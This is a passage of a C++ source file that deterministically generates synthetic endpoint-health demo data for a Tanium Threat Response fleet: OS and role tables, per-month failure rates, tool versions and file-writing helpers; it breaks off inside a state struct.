#include "demo/DemoFleet.h"

#include <QDir>
#include <QFile>

#include <algorithm>
#include <array>
#include <charconv>
#include <cstdint>
#include <cstring>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

// How the demo fleet is made (see DemoFleet.h for the contract):
//
// * Randomness is a keyed hash, not a sequential generator: every decision is
//   mix(seed, purpose, endpoint[, month]). A trait of an endpoint therefore does not depend on
//   how many endpoints came before it or on the order files are written, and "persistent"
//   problems are modelled by comparing one per-endpoint number against a rate that falls month
//   by month (so the set of broken endpoints shrinks: fixes), while "transient" problems draw
//   a fresh number per month (new failures appear, old ones vanish).
// * Only integer arithmetic decides anything (no floating point, no <random> distributions,
//   no hash containers), so the output is identical with every compiler and standard library.
// * One pass over the endpoints writes all per-endpoint files at once, so each endpoint's
//   state is computed once per snapshot and the files agree with each other (a stopped driver
//   is also "is_using_tanium_driver False" and "ETW" in Client Extensions - Status).

namespace trh {

namespace {

using std::string_view;
using namespace std::string_view_literals;

constexpr int kSnapshots = 4;
constexpr int kMaxEndpoints = 1000000;

// ------------------------------------------------------------------ deterministic randomness

constexpr std::uint64_t kGamma = 0x9E3779B97F4A7C15ull; // splitmix64 increment

std::uint64_t mix64(std::uint64_t z)
{
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
    return z ^ (z >> 31);
}

// A bijection of 32-bit integers (xorshift-multiply steps are each invertible), so distinct
// inputs give distinct Computer IDs.
std::uint32_t mix32(std::uint32_t x)
{
    x ^= x >> 16;
    x *= 0x7FEB352Du;
    x ^= x >> 15;
    x *= 0x846CA68Bu;
    x ^= x >> 16;
    return x;
}

// One independent stream per decision. Never reorder or renumber: the values are part of what
// makes the output of a given seed stable.
enum class Tag : std::uint32_t
{
    Role = 1,
    Variant,
    Site,
    Os,
    Join,
    Retire,
    MixedCase,
    ComputerIdKey,
    ShowcaseStart,
    NotDeployed,
    JoinerNoTr,
    CxPending,
    CxError,
    NoProfileP,
    NoProfileT,
    FailP,
    FailPDomain,
    FailPReason,
    FailT,
    FailTDomain,
    FailTReason,
    PatchFail,
    MacRecorder,
    OneCpu,
    DriverP,
    DriverPKind,
    DriverT,
    DriverTKind,
    DriverPending,
    NoDriverUse,
    BpfPending,
    IntelP,
    IntelT,
    WrongProfile,
    UnknownProfile,
    UnknownWhich,
    ProfileLag,
    ToolLag,
    ToolStuck,
    ToolStuckWhich,
    ToolMissing,
    ToolMissingWhich,
    ToolInstalling,
    ToolInstallingWhich,
    ToolsPending,
    ExtPending,
    Settings,
    SettingsPick,
    SettingsPending,
    AlertTime,
    AlertHost,
    AlertNoisy,
    AlertIntel,
    AlertFate,
    AlertDelay,
    AlertDelay2,
    AlertDelay3,
    AlertGuid,
    AlertGuid2,
    AlertUser,
    AlertPid,
    AlertHash,
    AlertHash2,
    AlertSkew,
};

class Rng
{
public:
    explicit Rng(quint32 seed) : m_seed(mix64(std::uint64_t(seed) ^ 0x5DEECE66Dull)) {}
    std::uint64_t operator()(Tag tag, std::uint64_t a, std::uint64_t b = 0) const
    {
        std::uint64_t h = mix64(m_seed + kGamma * (std::uint64_t(tag) + 1));
        h = mix64(h ^ (kGamma * (a + 1)));
        return mix64(h + kGamma * (b + 1) + 0x632BE59BD9B4E019ull);
    }

private:
    std::uint64_t m_seed;
};

// Integer in [0, n) from the high bits of h (multiply-shift: no modulo bias worth the name,
// and identical everywhere, unlike std::uniform_int_distribution).
std::uint32_t below(std::uint64_t h, std::uint32_t n)
{
    return std::uint32_t(((h >> 32) * std::uint64_t(n)) >> 32);
}

// True with probability ppm / 1,000,000.
bool chance(std::uint64_t h, std::uint32_t ppm)
{
    return below(h, 1000000) < ppm;
}

template<std::size_t N>
int pickWeighted(std::uint64_t h, const std::array<int, N> &weights)
{
    int total = 0;
    for (int w : weights)
        total += w;
    int r = int(below(h, std::uint32_t(total)));
    for (std::size_t i = 0; i < N; ++i) {
        if (r < weights[i])
            return int(i);
        r -= weights[i];
    }
    return int(N - 1);
}

// ------------------------------------------------------------------------------ fleet tables

enum class Platform : std::uint8_t
{
    Windows,
    Linux,
    Mac
};

string_view platformName(Platform p)
{
    switch (p) {
    case Platform::Windows:
        return "Windows"sv;
    case Platform::Linux:
        return "Linux"sv;
    case Platform::Mac:
        return "Mac"sv;
    }
    return "Windows"sv;
}

string_view platformGroup(Platform p)
{
    switch (p) {
    case Platform::Windows:
        return "All Windows"sv;
    case Platform::Linux:
        return "All Linux"sv;
    case Platform::Mac:
        return "All Mac"sv;
    }
    return "All Windows"sv;
}

enum Role : std::uint8_t
{
    WinDesktop,
    WinLaptop,
    WinDc,
    WinSql,
    WinFile,
    WinApp,
    LnxWeb,
    LnxDb,
    LnxK8s,
    LnxBuild,
    LnxDev,
    MacClient,
    kRoleCount
};

// Per mille of the fleet: 60 % Windows, 35 % Linux, 5 % Mac.
constexpr std::array<int, kRoleCount> kRoleWeights = {300, 180, 15,  25, 20, 60,
                                                      100, 50,  100, 40, 60, 50};

Platform rolePlatform(Role r)
{
    if (r <= WinApp)
        return Platform::Windows;
    if (r <= LnxDev)
        return Platform::Linux;
    return Platform::Mac;
}

bool isServerRole(Role r)
{
    return (r >= WinDc && r <= WinApp) || (r >= LnxWeb && r <= LnxBuild);
}

constexpr std::array<string_view, 8> kDeptCode = {"FIN"sv, "HR"sv,    "ENG"sv, "SALES"sv,
                                                  "MKT"sv, "LEGAL"sv, "OPS"sv, "IT"sv};
constexpr std::array<string_view, 8> kDeptLower = {"fin"sv, "hr"sv,    "eng"sv, "sales"sv,
                                                   "mkt"sv, "legal"sv, "ops"sv, "it"sv};
constexpr std::array<int, 8> kDeptWeights = {12, 6, 25, 18, 10, 4, 15, 10};
constexpr std::array<string_view, 8> kDeptWorkstations = {
    "Finance Workstations"sv,     "Human Resources Workstations"sv,
    "Engineering Workstations"sv, "Sales Workstations"sv,
    "Marketing Workstations"sv,   "Legal Workstations"sv,
    "Operations Workstations"sv,  "IT Workstations"sv};
constexpr std::array<string_view, 8> kDeptLaptops = {
    "Finance Laptops"sv,   "Human Resources Laptops"sv, "Engineering Laptops"sv, "Sales Laptops"sv,
    "Marketing Laptops"sv, "Legal Laptops"sv,           "Operations Laptops"sv,  "IT Laptops"sv};

constexpr std::array<string_view, 4> kSiteCode = {"LON"sv, "FRA"sv, "NYC"sv, "SIN"sv};
constexpr std::array<string_view, 4> kSiteLower = {"lon"sv, "fra"sv, "nyc"sv, "sin"sv};
constexpr std::array<string_view, 4> kSiteGroup = {"Site - London"sv, "Site - Frankfurt"sv,
                                                   "Site - New York"sv, "Site - Singapore"sv};
constexpr std::array<int, 4> kSiteWeights = {35, 25, 25, 15};

constexpr std::array<string_view, 4> kMacDept = {"DESIGN"sv, "MKT"sv, "EXEC"sv, "ENG"sv};
constexpr std::array<string_view, 4> kMacGroup = {"Design Macs"sv, "Marketing Macs"sv,
                                                  "Executive Macs"sv, "Engineering Macs"sv};
constexpr std::array<int, 4> kMacDeptWeights = {40, 25, 10, 25};

constexpr std::array<string_view, 2> kDbEngine = {"pg"sv, "mysql"sv};

enum class Bpf : std::uint8_t
{
    None,
    Core,
    BccOnly,
    Unsupported
};

struct OsDef
{
    string_view name;
    string_view kernel; // Linux: short kernel release for the BPF details text
    Bpf bpf;
};

enum OsId : std::uint8_t
{
    Win11,
    Win10,
    Srv2022,
    Srv2019,
    Srv2016,
    Ubuntu2204,
    Rhel93,
    Debian12,
    Amazon2023,
    Sles15,
    Rhel89,
    Ubuntu2004,
    CentOs7,
    Ubuntu2404,
    MacOs145,
    MacOs136,
    MacOs150,
    kOsCount
};

constexpr std::array<OsDef, kOsCount> kOs = {{
    {"Windows 11 Enterprise"sv, {}, Bpf::None},
    {"Windows 10 Enterprise"sv, {}, Bpf::None},
    {"Windows Server 2022 Datacenter"sv, {}, Bpf::None},
    {"Windows Server 2019 Datacenter"sv, {}, Bpf::None},
    {"Windows Server 2016 Standard"sv, {}, Bpf::None},
    {"Ubuntu 22.04.4 LTS"sv, "5.15.0-91"sv, Bpf::Core},
    {"Red Hat Enterprise Linux 9.3"sv, "5.14.0-362"sv, Bpf::Core},
    {"Debian GNU/Linux 12 (bookworm)"sv, "6.1.0-18"sv, Bpf::Core},
    {"Amazon Linux 2023"sv, "6.1.61-85"sv, Bpf::Core},
    {"SUSE Linux Enterprise Server 15 SP5"sv, "5.14.21-150500"sv, Bpf::Core},
    {"Red Hat Enterprise Linux 8.9"sv, "4.18.0-513"sv, Bpf::BccOnly},
    {"Ubuntu 20.04.6 LTS"sv, "5.4.0-169"sv, Bpf::BccOnly},
    {"CentOS Linux 7.9.2009"sv, "3.10.0-1160"sv, Bpf::Unsupported},
    {"Ubuntu 24.04.1 LTS"sv, "6.8.0-45"sv, Bpf::Core},
    {"macOS 14.5"sv, {}, Bpf::None},
    {"macOS 13.6.7"sv, {}, Bpf::None},
    {"macOS 15.0.1"sv, {}, Bpf::None},
}};

OsId pickOs(Role role, std::uint64_t h)
{
    switch (rolePlatform(role)) {
    case Platform::Windows:
        if (role == WinDesktop)
            return pickWeighted(h, std::array<int, 2>{60, 40}) == 0 ? Win11 : Win10;
        if (role == WinLaptop)
            return pickWeighted(h, std::array<int, 2>{70, 30}) == 0 ? Win11 : Win10;
        return OsId(Srv2022 + pickWeighted(h, std::array<int, 3>{45, 40, 15}));
    case Platform::Linux:
        if (role == LnxDev) {
            constexpr std::array<OsId, 3> dev = {Ubuntu2204, Ubuntu2404, Ubuntu2004};
            return dev[std::size_t(pickWeighted(h, std::array<int, 3>{55, 30, 15}))];
        }
        return OsId(Ubuntu2204 + pickWeighted(h, std::array<int, 8>{30, 15, 10, 8, 5, 14, 8, 10}));
    case Platform::Mac:
        return OsId(MacOs145 + pickWeighted(h, std::array<int, 3>{50, 30, 20}));
    }
    return Win11;
}

// Threat Response domains in the order health-rules.md lists them.
enum Domain : std::uint8_t
{
    Dec,
    Index,
    Recorder,
    Stream,
    ThreatResponse,
    kDomainCount
};
constexpr std::array<int, kDomainCount> kDomainFailWeights = {15, 20, 30, 20, 15};
// Failure reasons as a client would report them; some carry commas and quotes on purpose.
constexpr std::array<std::array<string_view, 3>, kDomainCount> kFailReasons = {{
    {"dec: connection refused"sv, "dec: unable to reach zone proxy, retrying in 300 seconds"sv,
     "dec: TLS handshake failed"sv},
    {"index: scan stalled"sv, "index: database locked by another process"sv,
     "index: file system journal overflow, full rescan required"sv},
    {"recorder database exceeds size limit"sv,
     "recorder: \"MaxEventsPerSecond\" limit reached, events dropped"sv,
     "recorder: event source unavailable"sv},
    {"stream: unable to reach server"sv, "stream: queue full, events dropped"sv,
     "stream: certificate rejected by server"sv},
    {"threatresponse: extension crashed 3 times"sv, "threatresponse: intel download failed"sv,
     "threatresponse: profile could not be applied"sv},
}};

enum class DriverState : std::uint8_t
{
    Running,
    Stopped,
    NotStarted,
    ServiceNotInstalled,
    NotInstalled,
};
constexpr std::array<int, 4> kDriverProblemWeights = {35, 20, 20, 25}; // Stopped..NotInstalled

// Tools of "Endpoint Configuration - Tools Status", as the procedure names them.
enum Tool : std::uint8_t
{
    ToolThreatResponse,
    ToolThreatResponseCx,
    ToolStream,
    ToolCxStream,
    ToolIncidentResponse,
    ToolIndexCx,
    ToolDirectConnect,
    ToolDecCx,
    ToolDriver,
    ToolRecorder,
    ToolRecorderBpf,
    kToolCount
};

struct ToolDef
{
    string_view name;
    std::uint8_t platforms; // bit 0 Windows, 1 Linux, 2 Mac
    string_view older;      // what a stuck endpoint still runs
    string_view previous;   // targeted before `release`
    string_view current;    // targeted from snapshot `release` on
    int release;
};

constexpr std::array<ToolDef, kToolCount> kTools = {{
    {"Threat Response"sv, 7, "3.10.1.0"sv, "3.11.2.0"sv, "3.12.4.0"sv, 2},
    {"Threat-response-cx"sv, 7, "3.10.1.0"sv, "3.11.2.0"sv, "3.12.4.0"sv, 2},
    {"Threat Response Stream"sv, 7, "2.6.3.2"sv, "2.7.0.12"sv, "2.8.1.4"sv, 1},
    {"cx-stream"sv, 7, "2.6.3.2"sv, "2.7.0.12"sv, "2.8.1.4"sv, 1},
    {"Incident Response"sv, 7, "4.4.2.0"sv, "4.5.0.0"sv, "4.5.0.0"sv, 0},
    {"index-cx"sv, 7, "2.7.5.0"sv, "2.8.3.0"sv, "2.9.1.0"sv, 2},
    {"Direct Connect"sv, 7, "1.13.0.8"sv, "1.14.2.0"sv, "1.15.0.3"sv, 3},
    {"dec-cx"sv, 7, "1.13.0.8"sv, "1.14.2.0"sv, "1.15.0.3"sv, 3},
    {"Driver"sv, 1, "10.2.1.1102"sv, "10.3.0.1180"sv, "10.4.2.1234"sv, 1},
    {"Recorder"sv, 7, "6.2.4.0"sv, "6.3.1.0"sv, "6.4.0.2"sv, 2},
    {"Recorder BPF Support"sv, 2, "1.1.2.0"sv, "1.2.0.0"sv, "1.3.0.0"sv, 2},
}};
// Share of endpoints still on the previous version 0, 1, 2 and 3+ months after a release.
constexpr std::array<std::uint32_t, 4> kToolLagPpm = {50000, 20000, 8000, 8000};
// The client extensions of "Installed Extensions" are the binaries of these tools.
constexpr std::array<std::pair<string_view, Tool>, 4> kExtensions = {{
    {"index"sv, ToolIndexCx},
    {"recorder"sv, ToolRecorder},
    {"stream"sv, ToolCxStream},
    {"threatresponse"sv, ToolThreatResponseCx},
}};

enum class ToolStatus : std::uint8_t
{
    Absent,
    Installed,
    NotInstalled,
    Installing
};

struct ProfileDef
{
    string_view name;
    int id;
    std::array<int, kSnapshots> revision;
    std::array<string_view, kSnapshots> status;
    std::array<string_view, 3> groups; // empty entries unused
};

// Priority order: the first profile with one of an endpoint's groups applies.
constexpr std::array<ProfileDef, 5> kProfiles = {{
    {"Windows Servers - High Fidelity"sv,
     12,
     {5, 6, 6, 7},
     {"Deployed"sv, "Deployed"sv, "Deployed"sv, "Deploying"sv},
     {"Domain Controllers"sv, "SQL Servers"sv, "Windows Servers"sv}},
    {"Windows Workstations"sv,
     7,
     {10, 11, 12, 12},
     {"Deployed"sv, "Deployed"sv, "Updated"sv, "Deployed"sv},
     {"All Windows"sv, {}, {}}},
    {"Linux Servers"sv,
     15,
     {4, 4, 5, 5},
     {"Deployed"sv, "Deployed"sv, "Deployed"sv, "Deployed"sv},
     {"Web Servers"sv, "Database Servers"sv, "Linux Servers"sv}},
    {"Mac Endpoints"sv,
     9,
     {3, 3, 3, 3},
     {"Deployed"sv, "Deployed"sv, "Deployed"sv, "Deployed"sv},
     {"All Mac"sv, {}, {}}},
    {"Default Profile"sv,
     1,
     {2, 2, 2, 2},
     {"Deployed"sv, "Deployed"sv, "Deployed"sv, "Deployed"sv},
     {"All Computers"sv, {}, {}}},
}};
constexpr int kDefaultProfile = 4;

// Profiles some endpoints still report although they are no longer in the profile list.
struct StaleProfile
{
    string_view name;
    int id;
    int revision;
};
constexpr std::array<StaleProfile, 2> kStaleProfiles = {{
    {"Legacy Servers"sv, 4, 9},
    {"Pilot - Recorder Tuning"sv, 21, 2},
}};

// Intel revision per month; index m + 2 is the current one of snapshot m.
constexpr std::array<int, kSnapshots + 2> kIntelRevision = {2026062, 2026072, 2026082,
                                                            2026092, 2026102, 2026112};

struct SettingDef
{
    string_view domain;
    string_view key;
    string_view windowsValue;
    string_view otherValue;
};
constexpr std::array<SettingDef, 6> kSettings = {{
    {"recorder"sv, "DatabaseMaxSize"sv, "2048"sv, "2048"sv},
    {"stream"sv, "MaxQueueSize"sv, "50000"sv, "50000"sv},
    {"index"sv, "ScanIntervalHours"sv, "24"sv, "24"sv},
    {"threatresponse"sv, "LogVerbosityLevel"sv, "41"sv, "41"sv},
    {"dec"sv, "ConnectionTimeoutSeconds"sv, "120"sv, "120"sv},
    {"index"sv, "ExcludedPaths"sv, "C:\\Windows\\WinSxS;C:\\ProgramData\\Tanium"sv,
     "/var/lib/docker;/proc"sv},
}};

// -------------------------------------------------------------------------- rates by month
// Persistent problems compare one per-endpoint draw with a falling rate: the broken set
// shrinks month by month (coverage ~82 % -> ~90 %). Transient ones draw per month.
constexpr std::array<std::uint32_t, kSnapshots> kNotDeployedPpm = {65000, 50000, 40000, 30000};
constexpr std::uint32_t kJoinerNoTrPpm = 300000; // new machines often lack TR in month one
constexpr std::uint32_t kCxPendingPpm = 7000;
constexpr std::uint32_t kCxErrorPpm = 100;
constexpr std::array<std::uint32_t, kSnapshots> kNoProfilePpm = {25000, 20000, 15000, 12000};
constexpr std::uint32_t kNoProfileTransientPpm = 3000;
constexpr std::array<std::uint32_t, kSnapshots> kFailPersistentPpm = {35000, 28000, 22000, 18000};
constexpr std::array<std::uint32_t, kSnapshots> kFailTransientPpm = {50000, 43000, 35000, 28000};
constexpr std::uint32_t kPatchFailPpm = 5000;
constexpr std::array<std::uint32_t, kSnapshots> kOneCpuPpm = {9000, 8000, 7000, 6000};
constexpr std::array<std::uint32_t, kSnapshots> kDriverPersistentPpm = {60000, 50000, 40000, 35000};
constexpr std::uint32_t kDriverTransientPpm = 15000;
constexpr std::uint32_t kDriverPendingPpm = 6000;
constexpr std::uint32_t kNoDriverUsePpm = 5000;
constexpr std::uint32_t kBpfPendingPpm = 8000;
constexpr std::array<std::uint32_t, kSnapshots> kIntelPersistentPpm = {25000, 20000, 15000, 12000};
constexpr std::uint32_t kIntelTransientPpm = 30000;
constexpr std::array<std::uint32_t, kSnapshots> kWrongProfilePpm = {20000, 17000, 15000, 13000};
constexpr std::uint32_t kUnknownProfilePpm = 4000;
constexpr std::uint32_t kProfileLagBumpPpm = 60000; // in the month a profile is revised
constexpr std::uint32_t kProfileLagPpm = 12000;
constexpr std::uint32_t kToolStuckPpm = 5000;
constexpr std::uint32_t kToolMissingPpm = 4000;
constexpr std::uint32_t kToolInstallingPpm = 3000;
constexpr std::uint32_t kToolsPendingPpm = 5000;
constexpr std::uint32_t kExtPendingPpm = 5000;
constexpr std::uint32_t kSettingsPpm = 70000;
constexpr std::uint32_t kSettingsPendingPpm = 5000;
constexpr std::uint32_t kMixedCasePpm = 15000;
constexpr std::uint32_t kMacRecorderPpm = 600000;

// ------------------------------------------------------------------------------- showcases
// Every kind of finding is forced on one endpoint (healthy otherwise, present all months) so
// that even a 300-endpoint demo shows all of them.
enum Showcase : int
{
    ScFailDec,
    ScFailIndex,
    ScFailRecorder,
    ScFailStream,
    ScFailThreatResponse,
    ScMinReqNotMet,
    ScNotUsingDriver,
    ScNoThreatResponse,
    ScNoProfile,
    ScUnknownProfile,
    ScOutdatedRevision,
    ScWrongProfile,
    ScOutdatedIntel,
    ScCxPending,
    ScCxError,
    ScDriverStopped,
    ScDriverNotStarted,
    ScDriverServiceNotInstalled,
    ScDriverNotInstalled,
    ScDriverPending,
    ScBpfCore,
    ScBpfBccOnly,
    ScBpfUnsupported,
    ScBpfPending,
    ScToolNotInstalled,
    ScToolMismatch,
    ScExtensionOutlier,
    ScNonDefaultSettings,
    ScMixedCaseName,
    kShowcaseCount
};

// Which platform a showcase needs (nullopt-like: Mac means "any but Mac is fine too").
enum class Needs
{
    Windows,
    Linux,
    NotMac
};

Needs showcaseNeeds(int sc)
{
    switch (sc) {
    case ScFailRecorder:
    case ScNotUsingDriver:
    case ScDriverStopped:
    case ScDriverNotStarted:
    case ScDriverServiceNotInstalled:
    case ScDriverNotInstalled:
    case ScDriverPending:
    case ScMixedCaseName:
        return Needs::Windows;
    case ScMinReqNotMet:
    case ScBpfCore:
    case ScBpfBccOnly:
    case ScBpfUnsupported:
    case ScBpfPending:
        return Needs::Linux;
    default:
        return Needs::NotMac;
    }
}

// -------------------------------------------------------------------------------- time
constexpr qint64 kDayMs = 86400000;

// Days since 1970-01-01 of a civil date (H. Hinnant's algorithm), integer only.
qint64 daysFromCivil(int y, int m, int d)
{
    y -= m <= 2 ? 1 : 0;
    const int era = (y >= 0 ? y : y - 399) / 400;
    const int yoe = y - era * 400;
    const int doy = (153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1;
    const int doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    return qint64(era) * 146097 + doe - 719468;
}

void civilFromDays(qint64 z, int &y, int &m, int &d)
{
    z += 719468;
    const qint64 era = (z >= 0 ? z : z - 146096) / 146097;
    const qint64 doe = z - era * 146097;
    const qint64 yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    const qint64 doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    const qint64 mp = (5 * doy + 2) / 153;
    d = int(doy - (153 * mp + 2) / 5 + 1);
    m = int(mp < 10 ? mp + 3 : mp - 9);
    y = int(yoe + era * 400 + (m <= 2 ? 1 : 0));
}

constexpr std::array<std::array<int, 3>, kSnapshots> kSnapshotDates = {
    {{2026, 8, 28}, {2026, 9, 28}, {2026, 10, 28}, {2026, 11, 27}}};

qint64 snapshotMs(int index)
{
    const auto &d = kSnapshotDates[std::size_t(index)];
    return daysFromCivil(d[0], d[1], d[2]) * kDayMs + 9 * 3600000;
}

// ------------------------------------------------------------------------ text helpers

void appendInt(std::string &out, qint64 v)
{
    char buf[24];
    const auto res = std::to_chars(buf, buf + sizeof buf, v);
    out.append(buf, std::size_t(res.ptr - buf));
}

void appendPadded(std::string &out, std::uint32_t v, int width)
{
    char buf[16];
    const auto res = std::to_chars(buf, buf + sizeof buf, v);
    for (int n = int(res.ptr - buf); n < width; ++n)
        out.push_back('0');
    out.append(buf, std::size_t(res.ptr - buf));
}

void append2(std::string &out, int v)
{
    out.push_back(char('0' + v / 10));
    out.push_back(char('0' + v % 10));
}

// "2026-11-03T14:22:05.123Z"
void appendIsoMs(std::string &out, qint64 ms)
{
    const qint64 days = ms >= 0 ? ms / kDayMs : (ms - kDayMs + 1) / kDayMs;
    const qint64 rem = ms - days * kDayMs;
    int y = 0, mo = 0, d = 0;
    civilFromDays(days, y, mo, d);
    appendPadded(out, std::uint32_t(y), 4);
    out.push_back('-');
    append2(out, mo);
    out.push_back('-');
    append2(out, d);
    out.push_back('T');
    append2(out, int(rem / 3600000));
    out.push_back(':');
    append2(out, int(rem / 60000 % 60));
    out.push_back(':');
    append2(out, int(rem / 1000 % 60));
    out.push_back('.');
    appendPadded(out, std::uint32_t(rem % 1000), 3);
    out.push_back('Z');
}

bool contains(string_view v, char c)
{
    return !v.empty() && std::memchr(v.data(), c, v.size()) != nullptr;
}

// RFC 4180: quote a field only if it holds the delimiter, a quote or a line break. memchr
// rather than a byte loop: this runs for every cell of every row of multi-GB fleets.
void appendCsvField(std::string &out, string_view v, char delim)
{
    const bool hasQuote = contains(v, '"');
    if (!hasQuote && !contains(v, '\n') && !contains(v, delim) && !contains(v, '\r')) {
        out.append(v);
        return;
    }
    out.push_back('"');
    while (hasQuote) {
        const std::size_t q = v.find('"');
        if (q == string_view::npos)
            break;
        out.append(v.substr(0, q + 1)).push_back('"');
        v.remove_prefix(q + 1);
    }
    out.append(v);
    out.push_back('"');
}

void appendJsonString(std::string &out, string_view v)
{
    static constexpr char hex[] = "0123456789abcdef";
    out.push_back('"');
    const bool plain = std::none_of(v.begin(), v.end(), [](char ch) {
        return static_cast<unsigned char>(ch) < 0x20 || ch == '"' || ch == '\\';
    });
    if (plain) {
        out.append(v);
        out.push_back('"');
        return;
    }
    for (char ch : v) {
        const auto c = static_cast<unsigned char>(ch);
        switch (c) {
        case '"':
            out.append("\\\""sv);
            break;
        case '\\':
            out.append("\\\\"sv);
            break;
        case '\n':
            out.append("\\n"sv);
            break;
        case '\r':
            out.append("\\r"sv);
            break;
        case '\t':
            out.append("\\t"sv);
            break;
        default:
            if (c < 0x20) {
                out.append("\\u00"sv);
                out.push_back(hex[c >> 4]);
                out.push_back(hex[c & 15]);
            } else {
                out.push_back(ch);
            }
        }
    }
    out.push_back('"');
}

void appendHex(std::string &out, std::uint64_t v, int digits)
{
    static constexpr char hex[] = "0123456789abcdef";
    for (int i = digits - 1; i >= 0; --i)
        out.push_back(hex[(v >> (4 * i)) & 15]);
}

void appendBase64(std::string &out, string_view in)
{
    static constexpr char tbl[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::size_t i = 0;
    for (; i + 2 < in.size(); i += 3) {
        const std::uint32_t n = std::uint32_t(std::uint8_t(in[i])) << 16 |
                                std::uint32_t(std::uint8_t(in[i + 1])) << 8 |
                                std::uint32_t(std::uint8_t(in[i + 2]));
        out.push_back(tbl[n >> 18]);
        out.push_back(tbl[(n >> 12) & 63]);
        out.push_back(tbl[(n >> 6) & 63]);
        out.push_back(tbl[n & 63]);
    }
    if (i + 1 == in.size()) {
        const std::uint32_t n = std::uint32_t(std::uint8_t(in[i])) << 16;
        out.push_back(tbl[n >> 18]);
        out.push_back(tbl[(n >> 12) & 63]);
        out.append("=="sv);
    } else if (i + 2 == in.size()) {
        const std::uint32_t n =
            std::uint32_t(std::uint8_t(in[i])) << 16 | std::uint32_t(std::uint8_t(in[i + 1])) << 8;
        out.push_back(tbl[n >> 18]);
        out.push_back(tbl[(n >> 12) & 63]);
        out.push_back(tbl[(n >> 6) & 63]);
        out.push_back('=');
    }
}

// Graphql-relay style opaque cursor: base64("arrayconnection:<offset>").
void appendCursor(std::string &out, int offset)
{
    std::string plain = "arrayconnection:";
    appendInt(plain, offset);
    appendBase64(out, plain);
}

// The correlated multi-line cells of one row (Domain/Key/Value, Tool Name/Status/...): line k
// of every cell belongs together.
template<std::size_t N>
class Lines
{
public:
    explicit Lines(string_view separator = "\n"sv) : m_sep(separator) {}
    void clear()
    {
        for (auto &c : m_cells)
            c.clear();
        m_count = 0;
    }
    void add(const std::array<string_view, N> &values)
    {
        for (std::size_t i = 0; i < N; ++i) {
            if (m_count > 0)
                m_cells[i].append(m_sep);
            m_cells[i].append(values[i]);
        }
        ++m_count;
    }
    const std::string &cell(std::size_t i) const { return m_cells[i]; }
    int count() const { return m_count; }

private:
    string_view m_sep;
    std::array<std::string, N> m_cells;
    int m_count = 0;
};

constexpr string_view kPending = "[current result unavailable]"sv;
constexpr string_view kNoResults = "[no results]"sv;

// ------------------------------------------------------------------------- buffered output

// UTF-8 to UTF-16LE by hand: QString::fromUtf8 would drop the byte order mark the file must
// start with, and this keeps the bytes independent of the host's endianness. The input is
// our own valid UTF-8.
void toUtf16Le(const std::string &in, std::string &out)
{
    out.clear();
    out.reserve(in.size() * 2);
    auto put = [&out](std::uint32_t u) {
        out.push_back(char(u & 0xFF));
        out.push_back(char(u >> 8));
    };
    for (std::size_t k = 0; k < in.size();) {
        const auto c = std::uint8_t(in[k]);
        std::uint32_t cp = c;
        int extra = 0;
        if (c >= 0xF0) {
            cp = c & 0x07u;
            extra = 3;
        } else if (c >= 0xE0) {
            cp = c & 0x0Fu;
            extra = 2;
        } else if (c >= 0xC0) {
            cp = c & 0x1Fu;
            extra = 1;
        }
        ++k;
        for (int e = 0; e < extra && k < in.size(); ++e, ++k)
            cp = (cp << 6) | (std::uint8_t(in[k]) & 0x3Fu);
        if (cp >= 0x10000) {
            cp -= 0x10000;
            put(0xD800 + (cp >> 10));
            put(0xDC00 + (cp & 0x3FF));
        } else {
            put(cp);
        }
    }
}

// A file written in large chunks from a std::string the caller appends rows to. UTF-16LE
// files are composed in UTF-8 and converted chunk by chunk; flushing happens only between
// rows, so a chunk never ends inside a character.
class OutFile
{
public:
    enum class Encoding
    {
        Utf8,
        Utf8Bom,
        Utf16LeBom
    };

    bool open(const QString &path, Encoding encoding)
    {
        m_file.setFileName(path);
        m_encoding = encoding;
        m_buf.clear();
        m_buf.reserve(kChunk + 65536);
        if (!m_file.open(QIODevice::WriteOnly | QIODevice::Truncate)) {
            m_error = m_file.errorString();
            return false;
        }
        if (encoding != Encoding::Utf8)
            m_buf.append("\xEF\xBB\xBF"sv); // U+FEFF: EF BB BF in UTF-8, FF FE in UTF-16LE
        return true;
    }
    std::string &buf() { return m_buf; }
    void rowDone()
    {
        if (m_buf.size() >= kChunk)
            flush();
    }
    // Flushes and closes; false (with error()) if anything failed along the way.
    bool finish()
    {
        if (!m_file.isOpen())
            return m_error.isEmpty();
        flush();
        if (m_error.isEmpty() && !m_file.flush())
            m_error = m_file.errorString();
        m_file.close();
        return m_error.isEmpty();
    }
    QString error() const { return m_error; }

private:
    static constexpr std::size_t kChunk = 1 << 20;

    void flush()
    {
        if (m_buf.empty() || !m_error.isEmpty()) {
            m_buf.clear();
            return;
        }
        const char *data = m_buf.data();
        qint64 size = qint64(m_buf.size());
        if (m_encoding == Encoding::Utf16LeBom) {
            toUtf16Le(m_buf, m_wide);
            data = m_wide.data();
            size = qint64(m_wide.size());
        }
        if (m_file.write(data, size) != size)
            m_error = m_file.errorString();
        m_buf.clear();
    }

    QFile m_file;
    Encoding m_encoding = Encoding::Utf8;
    std::string m_buf;
    std::string m_wide;
    QString m_error;
};

// ============================================================================ the fleet

struct Traits
{
    int index = 0;
    Role role = WinDesktop;
    Platform platform = Platform::Windows;
    int variant = 0; // department, site, database engine or Mac department, by role
    int site = 0;
    OsId os = Win11;
    int join = 0;            // first snapshot the endpoint appears in
    int retire = kSnapshots; // first snapshot it no longer appears in
    bool mixedCase = false;
    std::uint32_t computerId = 0;
    int showcase = -1;
};

struct ToolState
{
    ToolStatus status = ToolStatus::Absent;
    string_view target;
    string_view installed;
};

// What one endpoint answers in one snapshot. All files are written from this, so they agree.
struct State
{
    bool cxPending = false;
    bool cxError = false;
    bool deployed = true; // Threat Response tools (and their cx domains) present
    bool recorder = true;
    std::array<int, kDomainCount> failReason{-1, -1, -1, -1, -1};
    bool patchFail = false;
    bool minReqMet = true;
    DriverState driver = DriverState::Running;
    bool driverPending = false;
    bool usingDriver = false;
    bool bpfPending = false;
    bool hasProfile = false;
    bool staleProfile = false; // profile no longer in the profile list
